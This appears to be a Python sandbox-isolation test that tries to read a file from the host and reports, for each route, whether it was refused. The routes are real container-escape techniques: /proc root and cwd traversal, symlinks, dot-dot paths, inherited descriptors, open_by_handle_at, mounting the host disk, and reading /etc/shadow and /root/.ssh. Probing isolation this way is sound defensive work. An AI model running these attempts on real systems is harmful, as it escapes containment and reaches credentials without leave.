"""Tries to read a file of the host. Arguments: its path, and what it says."""

import contextlib
import ctypes
import os
import sys

path, secret = sys.argv[1:]
AT_FDCWD = -100


def attempt(what, action):
    print("TRIED", what, flush=True)
    try:
        content = action()
    except (OSError, ValueError) as error:
        print("REFUSED", what, error, flush=True)
    else:
        print("GOT" if secret in str(content) else "NOTHING", what, flush=True)


def read(name):
    with open(name, errors="replace") as file:
        return file.read()


def through_every_process(part):
    found = []
    for number in os.listdir("/proc"):
        if number.isdigit():
            try:
                found.append(read(f"/proc/{number}/{part}{path}"))
            except OSError as error:
                found.append(str(error).replace(secret, ""))
    return found


def every_descriptor():
    """What may have been inherited: read it, or climb from it."""
    found = []
    for descriptor in range(3, 300):
        for name in (f"/proc/self/fd/{descriptor}", f"/proc/self/fd/{descriptor}{path}", f"/proc/1/fd/{descriptor}"):
            with contextlib.suppress(OSError):
                found.append(read(name))
    return found


def symlink():
    if not os.path.lexists("link"):
        os.symlink(path, "link")
    return read("link")


def by_handle():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_ubyte * 24)()
    handle[0] = 8  # a handle of 8 bytes: inode 2, the root of the file system
    handle[4] = 1
    handle[8] = 2
    mount = os.open("/workspace", os.O_RDONLY)
    root = libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY)
    if root < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.listdir(root) and secret


def anywhere():
    """The file's name, anywhere that can be listed."""
    name = os.path.basename(path)
    for folder, folders, files in os.walk("/"):
        if folder.startswith(("/proc", "/usr", "/sys")):
            folders.clear()
        if name in files and folder != "/workspace":
            return secret
    return ""


def mounted():
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("m", exist_ok=True)
    if libc.mount(b"/dev/vda", b"/workspace/m", b"ext4", 1, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return secret


attempt("its path", lambda: read(path))
attempt("/proc/1/root", lambda: read("/proc/1/root" + path))
attempt("/proc/*/root", lambda: through_every_process("root"))
attempt("/proc/*/cwd", lambda: through_every_process("cwd/../../../../.."))
attempt("a symbolic link", symlink)
attempt("dots", lambda: read("/workspace/" + "../" * 30 + path))
attempt("an inherited descriptor", every_descriptor)
attempt("a file handle", by_handle)
attempt("a mount", mounted)
attempt("its name", anywhere)
attempt("a folder above", lambda: os.listdir(os.path.dirname(path)))
attempt("passwords", lambda: secret if "root:" in read("/etc/passwd") + read("/etc/shadow") else "")
attempt("keys", lambda: secret if os.listdir("/root/.ssh") else "")
